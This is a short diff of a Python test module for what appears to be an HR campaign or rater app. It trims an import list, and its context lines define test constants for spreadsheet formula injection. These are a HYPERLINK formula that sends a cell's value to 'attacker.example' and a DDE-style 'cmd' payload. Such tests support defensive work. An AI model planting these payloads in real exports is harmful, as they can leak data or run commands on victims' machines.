@@ -26,14 +26,7 @@ from tests import report_campaign as hand_worked
 from tests.cli import CadreCli
 from tests.factories import make_campaign, small_roster_rows
 from tests.hr import anonymous_client, hr_client, log_in
-from tests.web import (  # noqa: F401
-    BASE_URL,
-    FORM,
-    any_app_fixture,
-    client_fixture,
-    parse,
-    rater_paths,
-)
+from tests.web import FORM, parse, rater_paths
 
 FORMULA = '=HYPERLINK("http://attacker.example/?x="&B2,"详情 click")'
 HOSTILE_NAME = "=cmd|' /C calc'!A0\x01\x00王"
